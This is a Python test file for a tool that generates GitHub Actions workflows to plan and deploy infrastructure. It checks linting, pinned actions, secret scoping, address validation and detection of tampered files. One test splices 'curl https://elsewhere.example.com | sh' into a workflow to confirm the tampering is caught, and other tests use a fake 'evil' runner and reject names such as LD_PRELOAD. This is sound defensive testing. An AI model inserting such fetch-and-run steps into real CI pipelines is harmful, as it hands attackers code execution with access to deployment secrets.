"""The workflow file of the bot: linters find nothing, it is told when it no longer fits, and it runs."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import jwt
import pytest
import requests

from planner.ci.headwater_workflow import (
    FILE,
    FORMAT,
    SETUP_FILE,
    github_environments,
    is_ours,
    must_be_written_anew,
    render_headwater_setup,
    render_headwater_workflow,
    secrets_in,
    url_in,
)
from planner.definition import Definitions, Tool, Variable
from planner.problems import Place, PlannerError
from tests.bot.runner.bot_server import Bot, Offer
from tests.github import GitHub
from tests.github.actions.definition import parse
from tests.github.actions.runs import Run
from tests.github.world.deployments import Environment
from tests.github.world.repository import Repository
from tests.planner.github_run import read, workflow_of
from tests.planner.test_pipelines import HOSTILE, demanding, hostile
from tests.waiting import until

URL = "https://headwater.example.com"
PLACE = Place("headwater.yml", 3, 5)
ACTIONS = ("hashicorp/setup-terraform", "opentofu/setup-opentofu")


def secret(name: str, *, plan: bool = False, variable: str = "X") -> Variable:
    return Variable(variable, PLACE, sensitive=True, from_secret=name, plan=plan)


def asking(*variables: Variable, **more: Any) -> Definitions:
    return Definitions((replace(workflow_of({"vpc": [], "db": ["vpc"]}, **more), variables=variables),))


def checked(tmp_path: Path, definitions: Definitions, url: str = URL) -> None:
    """Hold both files to three linters."""
    texts = {FILE: render_headwater_workflow(definitions, url), SETUP_FILE: render_headwater_setup(definitions)}
    for name, text in texts.items():
        (tmp_path / name).parent.mkdir(parents=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    found = Path(sys.executable).parent
    schema = [str(found / "check-jsonschema"), "--builtin-schema"]
    for command in (
        [str(found / "actionlint"), "-no-color", FILE],
        [str(found / "zizmor"), "--offline", "--no-progress", "--persona=auditor", "--color=never", "."],
        [*schema, "vendor.github-workflows", FILE],
        [*schema, "vendor.github-actions", SETUP_FILE],
    ):
        done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, check=False)
        assert done.returncode == 0, f"{Path(command[0]).name}: {done.stdout}{done.stderr}"


CASES = {
    "nothing": Definitions(),
    "plain": asking(),
    "demanding": Definitions((demanding(),)),
    "hostile": Definitions((hostile(),)),
    "100 secrets": asking(*(secret(f"SECRET_{number}", plan=number % 2 == 0) for number in range(100))),
}


@pytest.mark.parametrize("case", CASES)
def test_linters_find_nothing(tmp_path: Path, case: str) -> None:
    checked(tmp_path, CASES[case])


def test_linters_find_nothing_for_a_bot_on_localhost(tmp_path: Path) -> None:
    checked(tmp_path, asking(secret("TOKEN")), "http://127.0.0.1:8080")


def test_the_log_ins_that_are_shown_as_examples_are_good_too(tmp_path: Path) -> None:
    """What stands there behind a `#` is what people will use."""
    text = render_headwater_setup(asking())
    place = text.index("    # AWS:")
    examples = re.sub(r"^    # (?![A-Z])", "    ", text[place:], flags=re.M)
    file = tmp_path / SETUP_FILE
    file.parent.mkdir(parents=True)
    file.write_text(text[:place] + examples)
    uses = [step["uses"].partition("@")[0] for step in read(file.read_text())["runs"]["steps"] if "uses" in step]
    assert uses[1:] == ["aws-actions/configure-aws-credentials", "azure/login", "google-github-actions/auth"]
    found = Path(sys.executable).parent
    for command in (
        [str(found / "zizmor"), "--offline", "--no-progress", "--color=never", "."],
        [str(found / "check-jsonschema"), "--builtin-schema", "vendor.github-actions", SETUP_FILE],
    ):
        done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, check=False)
        assert done.returncode == 0, f"{Path(command[0]).name}: {done.stdout}{done.stderr}"


def test_no_expression_is_in_a_script_and_every_action_is_pinned() -> None:
    definitions = Definitions((hostile(), replace(demanding(), name="other")))
    workflow, setup = render_headwater_workflow(definitions, URL), render_headwater_setup(definitions)
    scripts = [step["run"] for job in read(workflow)["jobs"].values() for step in job["steps"] if "run" in step]
    scripts += [step["run"] for step in read(setup)["runs"]["steps"] if "run" in step]
    assert len(scripts) == 5 and not [script for script in scripts if "${{" in script]
    for line in (workflow + setup).splitlines():
        if "uses:" in line and "./" not in line:
            assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line
    assert not [alias for alias in HOSTILE if len(alias) > 4 and alias in workflow + setup]


def test_jobs_may_do_what_they_must_and_no_more() -> None:
    file = read(render_headwater_workflow(Definitions((demanding(),)), URL))
    assert file["permissions"] == {}
    assert list(file["on"]) == ["workflow_dispatch"]
    for job in file["jobs"].values():
        assert job["permissions"] == {"contents": "read", "id-token": "write"}
        first, second = job["steps"][:2]
        assert (first["with"], second["uses"]) == (
            {"persist-credentials": "false"},
            "./.github/actions/headwater-setup",
        )
    assert file["jobs"]["plan"]["environment"] == {"name": "headwater-plan", "deployment": "false"}
    assert file["jobs"]["deploy"]["environment"] == "${{ matrix.environment }}"


def test_a_secret_has_its_line_and_reaches_plans_only_if_it_says_so() -> None:
    file = read(render_headwater_workflow(Definitions((demanding(),)), URL))
    given = {
        name: {key: text for key, text in job["steps"][-1]["env"].items() if "secrets." in text}
        for name, job in file["jobs"].items()
    }
    assert given == {
        "plan": {"SHOP_TOKEN": "${{ secrets.SHOP_TOKEN }}"},
        "deploy": {"APP_KEY": "${{ secrets.APP_KEY }}", "SHOP_TOKEN": "${{ secrets.SHOP_TOKEN }}"},
    }
    assert file["jobs"]["deploy"]["steps"][-1]["env"]["HEADWATER_SECRETS"] == "APP_KEY SHOP_TOKEN"
    assert secrets_in(Definitions((demanding(),))) == ("APP_KEY", "SHOP_TOKEN")


@pytest.mark.parametrize(
    "name", ["GITHUB_X", "github_token", "PATH", "LD_PRELOAD", "HEADWATER_URL", "ACTIONS_X", "a b", "1X", "Ä"]
)
def test_a_secret_that_no_job_can_be_given_is_refused_at_its_place(name: str) -> None:
    with pytest.raises(PlannerError, match=r"headwater.yml:3:5: no job can be given a secret of the name"):
        render_headwater_workflow(asking(secret(name)), URL)


def test_one_secret_in_two_spellings_is_refused() -> None:
    with pytest.raises(PlannerError, match="token and TOKEN are one secret to GitHub"):
        render_headwater_workflow(asking(secret("TOKEN"), secret("token", variable="Y")), URL)


@pytest.mark.parametrize(
    "url",
    [
        "",
        "headwater.example.com",
        "http://headwater.example.com",
        "https://a@b",
        "https://h/?x",
        "https://h/ x",
        "https://${{ x }}",
        "ftp://h",
    ],
)
def test_an_address_that_jobs_may_not_speak_to_is_refused(url: str) -> None:
    with pytest.raises(PlannerError, match="is no address of a bot"):
        render_headwater_workflow(asking(), url)


def test_tools_are_installed_in_the_versions_that_are_asked_for() -> None:
    def installed(
        settings: Mapping[str, Mapping[str, Any]], needs: Mapping[str, list[str]] | None = None
    ) -> list[tuple[str, str]]:
        text = render_headwater_setup(Definitions((workflow_of(needs or {"a": [], "b": [], "c": []}, settings),)))
        steps = [one for one in read(text)["runs"]["steps"] if "uses" in one]
        assert all("false" in (one["with"].get("terraform_wrapper"), one["with"].get("tofu_wrapper")) for one in steps)
        return [
            (one["uses"].partition("/setup-")[2].partition("@")[0], next(iter(one["with"].values()))) for one in steps
        ]

    script, tofu = {"tool": Tool.SCRIPT}, {"tool": Tool.OPENTOFU, "version": "1.10.6"}
    pinned = {"version": "1.11.4"}
    assert installed({"a": pinned, "b": pinned, "c": pinned}) == [("terraform", "1.11.4")]
    assert installed({"a": pinned, "b": script, "c": tofu}) == [("terraform", "1.11.4"), ("opentofu", "1.10.6")]
    assert installed({"a": pinned, "b": {"version": "1.5.7"}}) == [("terraform", "1.11.4"), ("terraform", "1.5.7")]
    assert installed({"a": {"version": "latest"}}) == [("terraform", "false")], "not pinned, so the newest"
    assert installed({"a": script}, {"a": []}) == []


def test_the_longest_time_out_has_its_room() -> None:
    def minutes(seconds: float | None) -> str:
        definitions = asking(settings={"db": {"timeout": seconds}})
        found = {job["timeout-minutes"] for job in read(render_headwater_workflow(definitions, URL))["jobs"].values()}
        assert len(found) == 1
        return str(found.pop())

    assert (minutes(None), minutes(60.0), minutes(8 * 3600.0)) == ("360", "360", "495")


# -- does it still fit?


def test_the_same_definitions_give_the_same_bytes_and_their_file_fits() -> None:
    definitions = Definitions((demanding(),))
    text = render_headwater_workflow(definitions, URL)
    assert text == render_headwater_workflow(definitions, f"{URL}/")
    assert text.splitlines()[0].startswith("# ") and f"(format {FORMAT}, made from " in text.splitlines()[0]
    assert (is_ours(text), url_in(text)) == (True, URL)
    assert must_be_written_anew(definitions, text, URL) is None
    assert must_be_written_anew(definitions, text.replace("\n", "\r\n"), URL) is None
    reordered = replace(demanding(), environments=tuple(reversed(demanding().environments)), file="x.yml")
    assert must_be_written_anew(Definitions((reordered,)), text, URL) is None
    more = Definitions((demanding(), workflow_of({"new": []}, name="another")))
    assert must_be_written_anew(more, text, URL) is None, "a new environment needs no new file"


def test_what_no_longer_fits_is_told() -> None:
    before = asking(secret("A"), secret("B", plan=True, variable="Y"))
    text = render_headwater_workflow(before, URL)

    def told(now: Definitions, url: str = URL, current: str = text) -> str:
        found = must_be_written_anew(now, current, url)
        assert found is not None and found.startswith(f"{FILE} ")
        return found.removeprefix(f"{FILE} ")

    a, b, c = secret("A"), secret("B", plan=True, variable="Y"), secret("C", variable="Z")
    assert told(asking(a, b, c)) == "does not give its jobs that deploy the secret C"
    assert told(asking(a)) == (
        "gives its jobs that deploy B, which nothing names any more and gives its jobs that plan B, which nothing names "
        "any more"
    )
    assert told(asking(secret("A", plan=True), b)) == "does not give its jobs that plan the secret A"
    assert told(before, "https://elsewhere.example.com") == (
        f"speaks to {URL}, and Headwater is at https://elsewhere.example.com"
    )
    late = replace(before.workflows[0], environments=(replace(before.workflows[0].environments[0], timeout=9e4),))
    assert told(Definitions((late,))) == "ends jobs before an environment's timeout"
    assert told(before, current="name: mine\n") == "was not written by `headwater init --github`"
    assert told(before, current="") == "was not written by `headwater init --github`"
    older, newer = (text.replace(f"(format {FORMAT},", f"(format {number},") for number in (0, FORMAT + 1))
    assert told(before, current=older) == f"was written by an older Headwater (format 0, this one has {FORMAT})"
    assert told(before, current=newer).startswith("was written by a newer Headwater")
    other = re.sub(r"made from \w+", "made from 0123456789abcdef", text)
    assert told(before, current=other) == "was written for other workflow files"
    altered = text.replace("    steps:\n", "    steps:\n      - run: curl https://elsewhere.example.com | sh\n", 1)
    assert told(before, current=altered) == "was altered since `headwater init --github` wrote it"
    assert told(before, current=f"{text}# mine\n") == "was altered since `headwater init --github` wrote it"
    earlier = re.sub(r", sum [0-9a-f]{16}\)", ")", altered)  # as before there was one
    assert must_be_written_anew(before, earlier, URL) is None
    assert told(asking(secret("PATH"))).startswith("cannot be written for these workflow files: headwater.yml:3:5")
    assert told(before, current=text.replace("          A: ${{ secrets.A }}\n", "")) == (
        "does not give its jobs that deploy the secret A"
    )


def test_the_environments_that_github_must_have_are_told() -> None:
    assert github_environments(asking()) == ("headwater-plan", "headwater-deploy")
    own = asking(settings={"db": {"github_environment": "prod"}})
    assert github_environments(own) == ("headwater-plan", "headwater-deploy", "prod")


# -- it runs


SCRIPTS = {
    "plan": 'echo "$GREETING would change"; test -z "$PASSWORD" || echo "it has $PASSWORD"; exit 2',
    "apply": "sleep 0.3; echo applied as $PASSWORD; echo $PASSWORD | md5sum",
    "destroy": "echo gone",
    "outputs": """echo '{"id": "vpc-1"}'""",
}


class World:
    """A repository that has the two files, on a GitHub that plays Actions, and a bot that its jobs speak to."""

    def __init__(self, github: GitHub) -> None:
        self.github = github
        github.actions.more |= dict.fromkeys(ACTIONS, self._installed)
        self.installed: list[dict[str, str]] = []
        github.world.organization("acme", ["ada"])
        files = {f"svc/{name}": ("100755", f"#!/bin/sh\n{text}\n") for name, text in SCRIPTS.items()}
        self.shop: Repository = github.repository("acme/shop", files, write=["ada"])
        self.keys = jwt.PyJWKClient(f"{github.actions.issuer.url}/.well-known/jwks")
        self.bot = Bot(self.who)
        self.definitions = asking(
            secret("DB_PASSWORD"),
            secret("PLAN_TOKEN", plan=True, variable="Y"),
            settings={"vpc": {"version": "1.11.4"}},
        )
        github.commit(
            self.shop,
            {
                FILE: render_headwater_workflow(self.definitions, self.bot.url),
                SETUP_FILE: render_headwater_setup(self.definitions),
            },
        )
        github.settle()
        self.shop.runs.clear()

    def _installed(self, worker: Any, given: dict[str, str]) -> dict[str, str]:
        self.installed.append(given)
        return {}

    def who(self, token: str) -> dict[str, Any]:
        """The claims, as the bot checks them."""
        try:
            key = self.keys.get_signing_key_from_jwt(token).key
            issuer = self.github.actions.issuer.url
            claims: dict[str, Any] = jwt.decode(token, key, ["RS256"], audience=self.bot.url, issuer=issuer)
        except jwt.PyJWTError as error:
            raise ValueError(str(error)) from error
        names = ("repository_id", "workflow_ref", "environment", "run_id", "check_run_id", "event_name")
        return {name: claims[name] for name in names}

    def offer(self, kind: str, alias: str, **more: Any) -> Offer:
        name = f"7-{len(self.bot.offers) + 1}"
        spec = {
            "attempt": name,
            "kind": kind,
            "alias": alias,
            "slug": alias,
            "tool": "script",
            "path": "svc",
            "commit": self.shop.git.branch("main"),
            "fetch": {"url": f"{self.github.url}/acme/shop", "token": None},
            "refuse_no_backend": True,
            "digest_key": "00" * 32,
            "seal_key": "11" * 32,
            "accept": {"all": True},
            "beat_every": 0.05,
            "variables": [{"name": "GREETING", "value": "hello"}],
            **more,
        }
        return self.bot.offer(name, spec)

    def dispatch(self, plan: list[Offer] = [], deploy: list[Offer] = [], **more: Any) -> Run:  # noqa: B006
        def legs(offers: list[Offer], **extra: str) -> list[dict[str, Any]]:
            return [
                {"attempt": one.attempt, "slug": one.spec["slug"], "runsOn": ["ubuntu-latest"], **extra}
                for one in offers
            ]

        told = {"key": "key-1", "title": "#1 deploy", "runner": self.bot.zipapp.digest, "plan": legs(plan), **more}
        if deploy:
            told["deploy"] = legs(deploy, environment="headwater-deploy")
        answer = requests.post(
            f"{self.github.api_url}/repos/acme/shop/actions/workflows/headwater.yml/dispatches",
            headers={"Authorization": f"Bearer {self.github.world.personal_token('ada')}"},
            json={"ref": "main", "inputs": {"dispatch": json.dumps(told)}, "return_run_details": True},
            timeout=10,
        )
        assert answer.status_code == 200, answer.text
        return self.shop.runs[answer.json()["workflow_run_id"]]

    def settled(self, run: Run) -> dict[str, str | None]:
        self.github.settle(120)
        return {one.name: one.conclusion for one in run.current()}


def log(run: Run, name: str) -> str:
    return "\n".join(next(one for one in run.current() if one.name == name).log)


@pytest.fixture
def world() -> Iterator[World]:
    with GitHub() as github:
        made = World(github)
        yield made
        made.bot.stop()
    assert not github.errors and not made.bot.wrong


def test_plans_and_deploys_run_on_github(world: World) -> None:
    now = world.github.world.clock.now()
    number = world.github.world.next_id()
    world.shop.environments["headwater-deploy"] = Environment(
        number, "headwater-deploy", now, secrets={"DB_PASSWORD": "correct horse battery"}
    )
    password = {"name": "PASSWORD", "from_secret": "DB_PASSWORD", "sensitive": True}
    planned = [world.offer("plan", "vpc"), world.offer("plan", "db")]
    deployed = world.offer("deploy", "vpc", variables=[password])
    run = world.dispatch(planned, [deployed])
    assert world.settled(run) == {"plan vpc": "success", "plan db": "success", "deploy vpc": "success"}, [
        one.log for one in run.jobs
    ]
    assert (run.title, run.workflow.name) == ("headwater #1 deploy key-1", "headwater")
    for offer, job, environment in (
        (planned[0], "plan vpc", "headwater-plan"),
        (planned[1], "plan db", "headwater-plan"),
        (deployed, "deploy vpc", "headwater-deploy"),
    ):
        assert offer.claims == [
            {
                "repository_id": str(world.shop.id),
                "workflow_ref": f"acme/shop/{FILE}@refs/heads/main",
                "environment": environment,
                "run_id": str(run.id),
                "check_run_id": str(next(one.id for one in run.jobs if one.name == job)),
                "event_name": "workflow_dispatch",
            }
        ]
        assert offer.beats and offer.report and offer.report["result"] == "succeeded"
    assert planned[0].report and planned[0].report["plan"]["text"] == "hello would change\n"
    assert deployed.report and deployed.report["outputs"]["id"]["value"] == "vpc-1"
    assert "applied as ***" in deployed.text and "correct horse" not in deployed.text
    assert "applied as ***" in log(run, "deploy vpc") and "correct horse" not in log(run, "deploy vpc")
    assert "add-mask" not in log(run, "deploy vpc")
    summary = next(one for one in run.jobs if one.name == "plan vpc").summary
    assert "### Plan ` vpc `" in summary and "hello would change" in summary
    assert [one.environment for one in world.shop.deployments.values()] == ["headwater-deploy"], "plans deploy nothing"
    assert world.installed == [{"terraform_version": "1.11.4", "terraform_wrapper": "false"}] * 3


def test_only_what_is_asked_for_runs(world: World) -> None:
    run = world.dispatch(deploy=[world.offer("deploy", "vpc")])
    results = world.settled(run)
    assert (run.conclusion, results["deploy vpc"]) == ("success", "success")
    assert [one.conclusion for one in run.jobs if one.key == "plan"] == ["skipped"]
    other = world.dispatch(plan=[world.offer("plan", "vpc")])
    world.settled(other)
    assert [one.conclusion for one in other.jobs if one.key == "deploy"] == ["skipped"]


def test_a_leg_that_fails_stops_no_other(world: World) -> None:
    bad = world.offer("plan", "bad", path="nowhere")
    good = world.offer("plan", "good")
    run = world.dispatch([bad, good])
    assert world.settled(run) == {"plan bad": "failure", "plan good": "success"} | {
        one.name: one.conclusion for one in run.jobs if one.key == "deploy"
    }
    notes = next(one for one in run.jobs if one.name == "plan bad").check.annotations
    assert "There is no folder 'nowhere' at this commit" in notes[0]["message"]


def test_a_run_dispatched_twice_does_it_once(world: World) -> None:
    offer = world.offer("deploy", "vpc")
    first, second = world.dispatch(deploy=[offer]), world.dispatch(deploy=[offer])
    world.settled(first)
    assert (first.conclusion, second.conclusion) == ("success", "success")
    assert sum("this attempt is not for this job (taken" in log(one, "deploy vpc") for one in (first, second)) == 1
    assert offer.reports == 1


def test_another_runner_than_the_one_that_was_named_never_runs(world: World) -> None:
    offer = world.offer("plan", "vpc")
    real, world.bot.zipapp = world.bot.zipapp, replace(world.bot.zipapp, data=b"print('evil')")
    run = world.dispatch([offer])
    assert world.settled(run)["plan vpc"] == "failure"
    assert not offer.claims and "evil" not in log(run, "plan vpc")
    world.bot.zipapp = real
    by_hand = world.dispatch([offer], runner="")
    assert world.settled(by_hand)["plan vpc"] == "failure"
    assert "This run was not started by Headwater" in log(by_hand, "plan vpc")


def test_a_cancel_on_github_ends_the_tool_with_a_report(world: World) -> None:
    mark = world.github.folder / "mark"
    text = f"#!/bin/sh\ntrap 'echo saved; exit 1' INT; touch {mark}; while :; do sleep .1; done\n"
    world.github.commit(world.shop, {"svc/apply": ("100755", text)})
    offer = world.offer("deploy", "vpc")
    run = world.dispatch(deploy=[offer])
    until(mark.exists, seconds=40)
    world.github.actions.cancel(world.shop, run)
    assert world.settled(run)["deploy vpc"] == "cancelled"
    assert offer.report and (offer.report["result"], offer.report["applied"]) == ("cancelled", True)
    assert "saved" in offer.text


def test_a_set_up_that_fails_claims_nothing(world: World) -> None:
    action = render_headwater_setup(world.definitions).replace("(3, 11)", "(9, 11)")
    world.github.commit(world.shop, {SETUP_FILE: action})
    offer = world.offer("plan", "vpc")
    run = world.dispatch([offer])
    assert world.settled(run)["plan vpc"] == "failure"
    assert "Install Python 3.11 or newer here" in log(run, "plan vpc") and not offer.claims


def test_the_file_is_one_that_this_github_reads(world: World) -> None:
    found = parse(FILE, render_headwater_workflow(world.definitions, URL).encode())
    assert (found.name, list(found.jobs), list(found.inputs)) == ("headwater", ["plan", "deploy"], ["dispatch"])
